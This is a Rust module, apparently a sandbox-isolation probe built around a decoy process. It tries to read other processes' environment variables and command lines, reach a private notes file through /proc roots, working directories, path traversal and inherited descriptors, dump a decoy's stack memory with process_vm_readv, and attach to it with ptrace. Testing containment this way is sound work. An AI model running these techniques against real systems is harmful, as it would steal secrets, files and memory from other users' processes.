//! Looks into other processes, and takes hold of one.
use crate::support::*;
use std::ffi::{c_int, c_void};
use std::fs;
use std::ptr::null_mut;

const DECOY: c_int = @DECOY@;

#[repr(C)]
struct Piece(*mut c_void, usize);

unsafe extern "C" {
    fn process_vm_readv(pid: c_int, to: *const Piece, tos: u64, from: *const Piece, froms: u64, flags: u64) -> isize;
}

pub fn run() {
    let own: Vec<String> = std::env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    loot("env", own.join("\n").as_bytes());
    steal("decoy-environ", &format!("/proc/{DECOY}/environ"));
    if let Some(etude) = etude() {
        steal("etude-environ", &format!("/proc/{etude}/environ"));
    }
    steal("parent-environ", &format!("/proc/{}/environ", unsafe { getppid() }));
    steal("first-environ", "/proc/1/environ");
    let (mut lines, mut stolen) = (Vec::new(), Vec::new());
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        lines.extend(fs::read(entry.path().join("cmdline")).unwrap_or_default());
        // A door into another view of the files: a root, a current folder, an open file.
        for door in ["root", "cwd", "cwd/../../../../../../../..", "cwd/../../../.."] {
            stolen.extend(fs::read(format!("{}/{door}@HOME@/notes.txt", entry.path().display())).unwrap_or_default());
        }
        for fd in fs::read_dir(entry.path().join("fd")).into_iter().flatten().flatten() {
            stolen.extend(fs::read(format!("{}/../../../../../../../..@HOME@/notes.txt", fd.path().display())).unwrap_or_default());
        }
    }
    loot("cmdlines", &lines);
    loot("doors", &stolen);
    inherited();
    peek();
    hold();
}

/// Folders that were left open when the program was started.
fn inherited() {
    let mut stolen = vec![0u8; 4096];
    for fd in 3..256 {
        for up in ["", "../../../../../../../.."] {
            let file = unsafe { openat(fd, c(&format!("{up}@HOME@/notes.txt")[usize::from(up.is_empty())..]).as_ptr(), 0) };
            if file >= 0 && unsafe { read(file, stolen.as_mut_ptr().cast(), stolen.len()) } > 0 {
                loot("inherited", &stolen);
            }
        }
    }
}

/// The environment of a process lies at the top of its stack.
fn peek() {
    let Ok(maps) = fs::read_to_string(format!("/proc/{DECOY}/maps")) else { return };
    let Some(range) = maps.lines().find(|line| line.ends_with("[stack]")).and_then(|line| line.split(' ').next()) else { return };
    let ends: Vec<usize> = range.split('-').map(|end| usize::from_str_radix(end, 16).unwrap()).collect();
    let mut bytes = vec![0u8; ends[1] - ends[0]];
    let to = Piece(bytes.as_mut_ptr().cast(), bytes.len());
    let from = Piece(ends[0] as *mut c_void, bytes.len());
    if unsafe { process_vm_readv(DECOY, &to, 1, &from, 1, 0) } > 0 {
        loot("memory", &bytes);
    }
}

fn hold() {
    const SEIZE: i64 = 0x4206;
    if unsafe { ptrace(SEIZE, DECOY, null_mut(), null_mut()) } == 0 {
        pause(250);
    }
}
